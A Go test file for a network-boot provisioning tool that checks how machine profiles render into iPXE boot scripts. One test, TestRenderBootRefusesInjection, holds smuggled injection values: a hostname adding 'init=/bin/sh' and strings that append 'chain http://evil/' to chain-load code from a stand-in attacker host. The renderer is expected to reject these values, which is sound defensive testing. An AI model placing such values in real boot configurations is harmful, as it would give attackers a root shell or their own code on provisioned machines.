package profile

import (
	"errors"
	"strings"
	"testing"
	"time"

	api "hearth.dev/hearth/api/v1alpha1"
)

func machine(name string, labels map[string]string, mac, arch, site string) *api.Machine {
	m := &api.Machine{TypeMeta: api.TypeMeta{APIVersion: api.APIVersion, Kind: "Machine"},
		Metadata: api.ObjectMeta{Name: name, UID: "uid-" + name, Labels: labels},
		Spec:     api.MachineSpec{MAC: mac, Architecture: arch, Site: site}}
	return m
}

// prof makes a profile that boots a kernel by default.
func prof(name string, sel api.MachineSelector, priority int) *api.MachineProfile {
	return &api.MachineProfile{TypeMeta: api.TypeMeta{APIVersion: api.APIVersion, Kind: "MachineProfile"},
		Metadata: api.ObjectMeta{Name: name},
		Spec: api.MachineProfileSpec{Selector: sel, Priority: priority,
			ProfileBoot: api.ProfileBoot{Kernel: &api.BootFile{URL: "http://mirror/" + name + "/linux"}}}}
}

// multiArch is a profile with a default kernel boot (x86_64) and an arm64
// variant that boots by script.
func multiArch() *api.MachineProfile {
	p := prof("debian", api.MachineSelector{}, 0)
	p.Spec.Install = true
	p.Spec.Kernel = &api.BootFile{URL: "http://mirror/amd64/linux"}
	p.Spec.Initrds = []api.BootFile{{URL: "http://mirror/amd64/initrd.gz"}, {URL: "http://mirror/firmware.cpio.gz"}}
	p.Spec.Args = "auto=true url={{ .FilesURL }}/preseed.cfg hostname={{ .Hostname }} BOOTIF=01-{{ .Machine.MAC | printf \"%s\" }} console=ttyS0\n"
	p.Spec.Variants = map[string]api.ProfileBoot{
		api.ArchARM64: {IPXEScript: "kernel {{ .Server.BootURL }}/arm64/linux hostname={{ .Machine.Hostname }}\nboot\n"},
	}
	p.Spec.Files = []api.ProfileFile{{Name: "preseed.cfg", Template: "d-i\n"}}
	return p
}

func TestNext(t *testing.T) {
	t0 := time.Date(2025, 1, 1, 0, 0, 0, 0, time.UTC)
	t1 := t0.Add(time.Hour)
	install := multiArch()
	stateless := multiArch()
	stateless.Spec.Install = false
	auto := multiArch()
	auto.Spec.AutoApprove = true
	tests := []struct {
		name       string
		approved   bool
		p          *api.MachineProfile
		installed  *time.Time
		reinstall  *time.Time
		want       Action
		wantReason string
	}{
		{"no profile", true, nil, nil, nil, ActionWait, "machine node1 (52:54:00:aa:bb:01) has no profile"},
		{"not approved", false, install, nil, nil, ActionWait, "machine node1 (52:54:00:aa:bb:01) is waiting for approval: hearth machine approve node1"},
		{"auto-approved", false, auto, nil, nil, ActionBoot, "machine node1: installing profile debian"},
		{"install", true, install, nil, nil, ActionBoot, "machine node1: installing profile debian"},
		{"installed", true, install, &t1, nil, ActionLocal, "machine node1 is installed (profile debian): booting from its local disk"},
		{"reinstall asked before the install", true, install, &t1, &t0, ActionLocal, ""},
		{"reinstall asked after the install", true, install, &t0, &t1, ActionBoot, "machine node1: reinstalling profile debian"},
		{"reinstall asked before any install", true, install, nil, &t1, ActionBoot, "machine node1: installing profile debian"},
		{"stateless boots every time", true, stateless, &t1, nil, ActionBoot, "machine node1: booting profile debian"},
		{"even an installed machine must be approved", false, install, &t1, nil, ActionWait, ""},
	}
	for _, tt := range tests {
		m := machine("node1", nil, "52:54:00:aa:bb:01", api.ArchX86_64, "")
		m.Spec.Approved = tt.approved
		m.Status.InstalledAt = tt.installed
		m.Spec.ReinstallRequested = tt.reinstall
		got, why := Next(m, tt.p)
		if got != tt.want || (tt.wantReason != "" && why != tt.wantReason) {
			t.Errorf("%s: Next = %s, %q; want %s, %q", tt.name, got, why, tt.want, tt.wantReason)
		}
	}
}

func TestRenderBootVariants(t *testing.T) {
	p := multiArch()
	srv := ServerValues{BootURL: "http://10.0.0.2:8080"}

	m := machine("node1", nil, "52:54:00:aa:bb:01", api.ArchX86_64, "")
	m.Spec.Approved = true
	plan, err := RenderBoot(m, p, NewValues(m, p, nil, srv, "b1"))
	if err != nil {
		t.Fatal(err)
	}
	if plan.Action != ActionBoot || plan.Profile != "debian" || plan.Kernel != "http://mirror/amd64/linux" ||
		strings.Join(plan.Initrds, " ") != "http://mirror/amd64/initrd.gz http://mirror/firmware.cpio.gz" ||
		plan.Args != "auto=true url=http://10.0.0.2:8080/machines/node1/boots/b1/files/preseed.cfg hostname=node1 BOOTIF=01-52:54:00:aa:bb:01 console=ttyS0" {
		t.Errorf("x86_64 plan %+v", plan)
	}
	want := `#!ipxe
echo Hearth: machine node1: installing profile debian
kernel http://mirror/amd64/linux initrd=initrd0 initrd=initrd1 auto=true url=http://10.0.0.2:8080/machines/node1/boots/b1/files/preseed.cfg hostname=node1 BOOTIF=01-52:54:00:aa:bb:01 console=ttyS0
initrd --name initrd0 http://mirror/amd64/initrd.gz
initrd --name initrd1 http://mirror/firmware.cpio.gz
boot
`
	if got := IPXEScript(plan); got != want {
		t.Errorf("x86_64 script\n got %s\nwant %s", got, want)
	}

	arm := machine("pi1", nil, "dc:a6:32:00:00:01", "aarch64", "")
	arm.Spec.Approved = true
	plan, err = RenderBoot(arm, p, NewValues(arm, p, nil, srv, "b1"))
	if err != nil {
		t.Fatal(err)
	}
	want = "#!ipxe\nkernel http://10.0.0.2:8080/arm64/linux hostname=pi1\nboot\n"
	if plan.Kernel != "" || IPXEScript(plan) != want {
		t.Errorf("arm64 plan %+v, script\n%s\nwant\n%s", plan, IPXEScript(plan), want)
	}

	// A variant-only profile cannot boot a machine of another or an
	// unknown architecture.
	p.Spec.ProfileBoot = api.ProfileBoot{}
	for _, arch := range []string{api.ArchX86_64, ""} {
		m.Spec.Architecture = arch
		if _, err := RenderBoot(m, p, NewValues(m, p, nil, srv, "b1")); err == nil {
			t.Errorf("arch %q: booted a profile with only an arm64 variant", arch)
		}
	}
}

func TestRenderBootRefusesInjection(t *testing.T) {
	p := multiArch()
	m := machine("node1", nil, "52:54:00:aa:bb:01", api.ArchX86_64, "")
	m.Spec.Approved = true
	m.Spec.Hostname = "x init=/bin/sh"
	_, err := RenderBoot(m, p, NewValues(m, p, nil, ServerValues{}, "b1"))
	var unsafe *UnsafeValueError
	if !errors.As(err, &unsafe) || unsafe.Where != "spec.args:1:54" || !strings.Contains(err.Error(), "profile debian, machine node1: spec.args:1:54: {{.Hostname}} printed") {
		t.Errorf("got %v, want the hostname refused in spec.args", err)
	}

	arm := machine("pi1", nil, "dc:a6:32:00:00:01", api.ArchARM64, "")
	arm.Spec.Approved = true
	arm.Spec.Hostname = "pi1\nchain http://evil/"
	_, err = RenderBoot(arm, p, NewValues(arm, p, nil, ServerValues{}, "b1"))
	if !errors.As(err, &unsafe) || !strings.HasPrefix(unsafe.Where, "spec.variants.arm64.ipxeScript:1:") {
		t.Errorf("got %v, want the hostname refused in the arm64 script", err)
	}

	p = multiArch()
	p.Spec.Args = "console=ttyS0\nchain http://evil/"
	m.Spec.Hostname = ""
	if _, err := RenderBoot(m, p, NewValues(m, p, nil, ServerValues{}, "b1")); err == nil || !strings.Contains(err.Error(), "spec.args renders to") {
		t.Errorf("multi-line args: got %v", err)
	}
	p = multiArch()
	p.Spec.Kernel.URL = "http://mirror/linux ; chain http://evil/"
	if _, err := RenderBoot(m, p, NewValues(m, p, nil, ServerValues{}, "b1")); err == nil || !strings.Contains(err.Error(), "spec.kernel.url") {
		t.Errorf("unsafe kernel URL: got %v", err)
	}
}

func TestIPXEScripts(t *testing.T) {
	p := multiArch()
	srv := ServerValues{BootURL: "http://10.0.0.2:8080"}
	m := machine("node1", nil, "52:54:00:aa:bb:01", api.ArchX86_64, "")
	t0 := time.Date(2025, 1, 1, 0, 0, 0, 0, time.UTC)
	script := prof("menu", api.MachineSelector{}, 0)
	script.Spec.ProfileBoot = api.ProfileBoot{IPXEScript: "\n  chain {{ index .URLs.Files \"menu.ipxe\" }}"}
	script.Spec.Files = []api.ProfileFile{{Name: "menu.ipxe", Template: "#!ipxe\nmenu\n"}}
	tests := []struct {
		name    string
		setup   func(*api.Machine)
		profile *api.MachineProfile
		want    string
	}{
		{"unapproved", func(*api.Machine) {}, p, `#!ipxe
:retry
echo Hearth: machine node1 (52:54:00:aa:bb:01) is waiting for approval: hearth machine approve node1
echo Asking again in 10 seconds.
sleep 10
chain --replace --autofree http://10.0.0.2:8080/machines/node1/boot.ipxe || goto retry
`},
		{"installed", func(m *api.Machine) { m.Spec.Approved = true; m.Status.InstalledAt = &t0 }, p, `#!ipxe
echo Hearth: machine node1 is installed (profile debian): booting from its local disk
iseq ${platform} efi || sanboot --no-describe --drive 0x80 ||
exit
`},
		{"profile script gets #!ipxe", func(m *api.Machine) { m.Spec.Approved = true }, script, "#!ipxe\nchain http://10.0.0.2:8080/machines/node1/boots/b1/files/menu.ipxe\n"},
	}
	for _, tt := range tests {
		mm := *m
		tt.setup(&mm)
		plan, err := RenderBoot(&mm, tt.profile, NewValues(&mm, tt.profile, nil, srv, "b1"))
		if err != nil {
			t.Fatalf("%s: %v", tt.name, err)
		}
		if got := IPXEScript(plan); got != tt.want {
			t.Errorf("%s: script\n got %s\nwant %s", tt.name, got, tt.want)
		}
	}

	// No profile: the Match error is the message.
	_, err := api.MatchProfile(m, nil)
	plan := WaitPlan(m, err.Error(), NewValues(m, nil, nil, srv, "b1"))
	if got := IPXEScript(plan); !strings.Contains(got, "\necho Hearth: machine node1 matches no profile: give it labels") || !strings.Contains(got, "chain --replace --autofree http://10.0.0.2:8080/machines/node1/boot.ipxe || goto retry\n") {
		t.Errorf("no-profile script:\n%s", got)
	}

	// A machine the boot service did not recognise runs DHCP again
	// before it asks.
	plan.Renew = true
	if got, want := IPXEScript(plan), "sleep 10\ndhcp ||\nchain --replace --autofree http://10.0.0.2:8080/machines/node1/boot.ipxe || goto retry\n"; !strings.HasSuffix(got, want) {
		t.Errorf("renewing wait script:\n%s\nwant it to end with\n%s", got, want)
	}
}
